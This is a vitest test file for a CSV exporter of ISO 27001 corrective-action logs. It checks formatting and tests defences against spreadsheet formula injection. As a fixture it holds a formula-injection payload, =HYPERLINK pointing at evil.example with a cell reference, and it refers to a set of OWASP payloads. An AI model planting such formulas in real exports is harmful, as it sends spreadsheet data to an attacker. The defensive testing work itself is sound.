import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { iso27001 } from '../../../src/index.js';
import { CSV_COLUMN_IDS, CSV_COLUMNS } from '../../../src/log/csv/columns.js';
import { csvRecord, exportCsv } from '../../../src/log/csv/export.js';
import { FORMULA_TRIGGERS, neutraliseFormula, restoreNeutralised } from '../../../src/log/csv/neutralise.js';
import type { LogLine, LoggedAction, LoggedFinding } from '../../../src/log/format/lines.js';
import { CapaValidationError } from '../../../src/errors/validation-error.js';
import { buildDataset, datasetRegister, jsonl, logLines, SPECS, walkSpec, XSS_TITLE } from '../reports/support/dataset.js';
import { PAYLOADS, payloadLines } from './support/payloads.js';

async function text(chunks: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const chunk of chunks) out += chunk;
  return out;
}

const rowsOf = (csv: string, delimiter = ',') => parse(csv.replace(/^\uFEFF/, ''), { delimiter }) as string[][];

let lines: LogLine[];
let ids: Map<string, string>;

beforeAll(async () => {
  const dataset = await buildDataset();
  ids = dataset.ids;
  lines = await logLines(dataset.store);
});

const findings = () => lines.filter((line): line is LoggedFinding => line.type === 'finding');
const header = (id: (typeof CSV_COLUMN_IDS)[number]) => CSV_COLUMNS.find((c) => c.id === id)!.header;

describe('exportCsv', () => {
  it('writes a header row and one row per finding, CRLF-terminated, every non-empty field quoted', async () => {
    const csv = await text(exportCsv(lines));
    expect(csv.startsWith('"Reference","Title","Grade","Status",')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Every record ends with CRLF; a bare LF only ever occurs inside a quoted field.
    const rows = rowsOf(csv);
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.header));
    expect(rows).toHaveLength(1 + findings().length);
    expect(new Set(rows.slice(1).map((row) => row.length))).toEqual(new Set([CSV_COLUMNS.length]));
  });

  it('joins each finding with its corrective actions, whether the action comes before or after it in the log', async () => {
    const order = lines.filter((l) => l.type !== 'capa-log').map((l) => (l.type === 'finding' ? l.finding.id : (l as LoggedAction).action.id));
    const f1 = ids.get('F1')!;
    const f3 = ids.get('F3')!;
    // The fixture puts one action before its finding (a-leavers) and one after every finding (zz-patching).
    expect(order.indexOf('a-leavers')).toBeLessThan(order.indexOf(f1));
    expect(order.indexOf('zz-patching')).toBeGreaterThan(order.indexOf(f3));
    for (const source of [lines, () => lines] as const) {
      const rows = rowsOf(await text(exportCsv(source)));
      const at = (ref: string) => rows.find((row) => row[0] === ref)!;
      const col = (name: (typeof CSV_COLUMN_IDS)[number]) => rows[0]!.indexOf(header(name));
      const f3Row = at(findings().find((l) => l.finding.id === f3)!.finding.reference);
      expect(f3Row[col('actions')]).toBe('Add a named owner and an automated reminder to the procedure');
      expect(f3Row[col('actionOwners')]).toBe('Sam Okafor');
      expect(f3Row[col('actionDueDates')]).toBe('2026-12-31');
      expect(f3Row[col('actionStatus')]).toBe('planned');
      // F2 had two plans (a not-effective review started a new investigation): both actions, one per line.
      const f2Row = at(findings().find((l) => l.finding.id === ids.get('F2'))!.finding.reference);
      expect(f2Row[col('actionStatus')]).toBe('done 2026-04-01\ndone 2026-04-15');
      expect(f2Row[col('effectiveness')]).toBe('not-effective 2026-04-10 (follow-up-audit, Lee Park)\neffective 2026-05-20 (follow-up-audit, Lee Park)');
      expect(f2Row[col('planApproved')]).toBe('Jonas Berg (auditor) 2026-04-15');
    }
    // A multi-line cell is quoted, with its line break inside the quotes (RFC 4180 2.6).
    expect(await text(exportCsv(lines))).toContain('"done 2026-04-01\ndone 2026-04-15"');
  });

  it('writes rows in log order from a reopenable source, and the same rows from a single pass', async () => {
    const twoPass = rowsOf(await text(exportCsv(() => lines)));
    const onePass = rowsOf(await text(exportCsv(lines)));
    expect(twoPass.slice(1).map((row) => row[0])).toEqual(findings().map((l) => l.finding.reference));
    expect([...onePass].sort()).toEqual([...twoPass].sort());
    // In one pass, the finding whose action comes last waits for it.
    expect(onePass.at(-1)![0]).toBe(findings().find((l) => l.finding.id === ids.get('F3'))!.finding.reference);
  });

  it('reads JSON Lines text in arbitrary chunks, as from a file or exportLog', async () => {
    const bytes = new TextEncoder().encode(jsonl(lines));
    const chunks = Array.from({ length: Math.ceil(bytes.length / 997) }, (_, i) => bytes.slice(i * 997, (i + 1) * 997));
    expect(await text(exportCsv(chunks))).toBe(await text(exportCsv(lines)));
    expect(await text(exportCsv(jsonl(lines)))).toBe(await text(exportCsv(lines)));
  });

  it('names an action that is not in the log instead of dropping it', async () => {
    const withoutActions = lines.filter((l) => l.type !== 'action');
    const rows = rowsOf(await text(exportCsv(withoutActions)));
    const f3Row = rows.find((row) => row[0] === findings().find((l) => l.finding.id === ids.get('F3'))!.finding.reference)!;
    expect(f3Row[rows[0]!.indexOf('Corrective actions')]).toBe('(zz-patching: not in the log)');
  });

  it('adds the UTF-8 byte-order mark only when asked', async () => {
    expect((await text(exportCsv(lines))).charCodeAt(0)).not.toBe(0xfeff);
    const withBom = await text(exportCsv(lines, { bom: true }));
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(withBom.slice(1)).toBe(await text(exportCsv(lines)));
  });

  it('chooses, orders and renames columns, and writes other separators', async () => {
    const csv = await text(exportCsv(lines, { columns: ['reference', 'due', 'title'], headers: { due: 'Fällig' }, delimiter: ';' }));
    const rows = rowsOf(csv, ';');
    expect(rows[0]).toEqual(['Reference', 'Fällig', 'Title']);
    const f9 = findings().find((l) => l.finding.id === ids.get('F9'))!.finding;
    expect(rows.find((row) => row[0] === f9.reference)).toEqual([f9.reference, '2026-03-01', f9.title]);
    expect(() => exportCsv(lines, { columns: ['reference', 'reference'] })).toThrow(CapaValidationError);
    expect(() => exportCsv(lines, { columns: ['nope' as never] })).toThrow(CapaValidationError);
  });

  it('writes grade ids when neither the options nor the log name a policy, labels otherwise', async () => {
    const noHeader = lines.filter((l) => l.type !== 'capa-log');
    const col = CSV_COLUMN_IDS.indexOf('grade');
    expect(rowsOf(await text(exportCsv(noHeader)))[1]![col]).toMatch(/^(major|minor|observation|ofi)$/);
    expect(rowsOf(await text(exportCsv(noHeader, { policy: iso27001 })))[1]![col]).toMatch(/nonconformity|Observation|Opportunity/);
  });

  it('keeps an XSS-looking title as text: CSV has no markup, only quoting', async () => {
    const rows = rowsOf(await text(exportCsv(lines)));
    expect(rows.some((row) => row[1] === XSS_TITLE)).toBe(true);
  });
});

describe('formula injection (OWASP CSV injection, ASVS 5.0 V1.2.10)', () => {
  it('prefixes a quote to every cell that starts with a trigger: = + - @ tab CR NUL and their compatibility forms', () => {
    for (const trigger of FORMULA_TRIGGERS) expect(neutraliseFormula(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
    // Every character NFKC turns into = + - or @ is a trigger.
    for (let code = 0; code <= 0xffff; code += 1) {
      const char = String.fromCharCode(code);
      if (code >= 0xd800 && code <= 0xdfff) continue;
      expect(FORMULA_TRIGGERS.includes(char), `U+${code.toString(16)}`).toBe(['=', '+', '-', '@'].includes(char.normalize('NFKC')) || ['\t', '\r', '\0'].includes(char));
    }
    expect(neutraliseFormula('Leavers =1')).toBe('Leavers =1');
    expect(neutraliseFormula('')).toBe('');
    expect(neutraliseFormula("don't")).toBe("don't");
  });

  it('neutralises wherever a spreadsheet splitting on , ; or tab, or a line break, would start a cell', () => {
    expect(neutraliseFormula(';=1+1;')).toBe(";'=1+1;");
    expect(neutraliseFormula(',=1+1,')).toBe(",'=1+1,");
    expect(neutraliseFormula('x\t=1+1')).toBe("x\t'=1+1");
    expect(neutraliseFormula('x\n-1\r\n+2')).toBe("x\n'-1\r\n'+2");
    // Past blanks and double quotes, which "Trim spaces" and quote parsing drop.
    expect(neutraliseFormula('x; =1+1')).toBe("x; '=1+1");
    expect(neutraliseFormula(' \u00A0=1+1')).toBe(" \u00A0'=1+1");
    expect(neutraliseFormula('x;"=1+1"')).toBe(`x;"'=1+1"`);
    // Not a place a cell starts: left alone.
    expect(neutraliseFormula('A =1+1 and a-b')).toBe('A =1+1 and a-b');
  });

  it("escapes the user's own apostrophe before a trigger, so the import gives it back", () => {
    expect(neutraliseFormula("'=kept")).toBe("''=kept");
    expect(neutraliseFormula("'-1")).toBe("''-1");
    expect(neutraliseFormula("x;''+1")).toBe("x;'''+1");
    expect(restoreNeutralised("''=kept")).toBe("'=kept");
    expect(restoreNeutralised("'=HYPERLINK()")).toBe('=HYPERLINK()');
    expect(restoreNeutralised("it's")).toBe("it's");
  });

  const hostile = fc.string({ unit: fc.constantFrom(',', ';', '\t', '\r', '\n', ' ', '\u00A0', '\u3000', '"', "'", '=', '+', '-', '@', '\0', '\uFF1D', '\uFE63', 'a', '1'), maxLength: 24 });
  const TRIGGER_SET = new Set(FORMULA_TRIGGERS);
  /** Every piece a spreadsheet could make a cell of: split on any separator or line break, quotes ignored, blanks and quotes before it dropped. */
  const pieces = (csv: string) => csv.split(/[,;\t\r\n]/).map((piece) => piece.replace(/^[\s"]+/, ''));
  const startsWithTrigger = (piece: string) => TRIGGER_SET.has(piece[0] ?? '');

  it('restores every text exactly: restoreNeutralised(neutraliseFormula(x)) is x', () => {
    fc.assert(
      fc.property(hostile, (value) => {
        expect(restoreNeutralised(neutraliseFormula(value))).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves no piece of a written record that starts with a trigger, whatever the separator, for any text', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 5 }), fc.constantFrom(',', ';', '\t'), (cells, delimiter) => {
        const record = csvRecord(cells, delimiter as ',' | ';' | '\t');
        for (const piece of pieces(record)) expect(startsWithTrigger(piece), JSON.stringify({ record, piece })).toBe(false);
        // The control: without neutralisation the same check finds the triggers these cells hold.
        if (cells.some((cell) => pieces(cell).some(startsWithTrigger))) expect(pieces(csvRecord(cells, delimiter as ',' | ';' | '\t', (cell) => cell)).some(startsWithTrigger)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  it(`writes ${PAYLOADS.length} OWASP payloads in every text column with no piece starting with a trigger, and each reads back exactly`, async () => {
    const payloadLog = payloadLines(lines, ids.get('F2')!);
    for (const delimiter of [',', ';', '\t'] as const) {
      const csv = await text(exportCsv(payloadLog, { delimiter }));
      for (const piece of pieces(csv)) expect(startsWithTrigger(piece), JSON.stringify(piece)).toBe(false);
      const rows = rowsOf(csv, delimiter);
      const title = rows[0]!.indexOf(header('title'));
      expect(rows.slice(1).map((row) => restoreNeutralised(row[title]!))).toEqual(PAYLOADS.map((p) => p.text));
    }
    // The control: the same texts written without neutralisation have pieces that start with one.
    const caught = PAYLOADS.filter((p) => pieces(csvRecord([p.text], ',', (cell) => cell)).some(startsWithTrigger));
    expect(caught.length).toBeGreaterThanOrEqual(45);
  });

  it('neutralises formula-looking values from the log, then quotes them and doubles their quotes (RFC 4180)', async () => {
    const { register, clock, store } = datasetRegister();
    await walkSpec(register, clock, {
      ...SPECS[0]!,
      key: 'FX',
      title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      plan: { at: '2026-01-25', actionId: 'a-formula' },
    });
    const exported = await logLines(store);
    const csv = await text(exportCsv(exported, { columns: ['reference', 'title', 'description', 'actions'] }));
    const row = rowsOf(csv)[1]!;
    expect(row[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(row[2]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click"): found during the internal audit.`);
  });
});
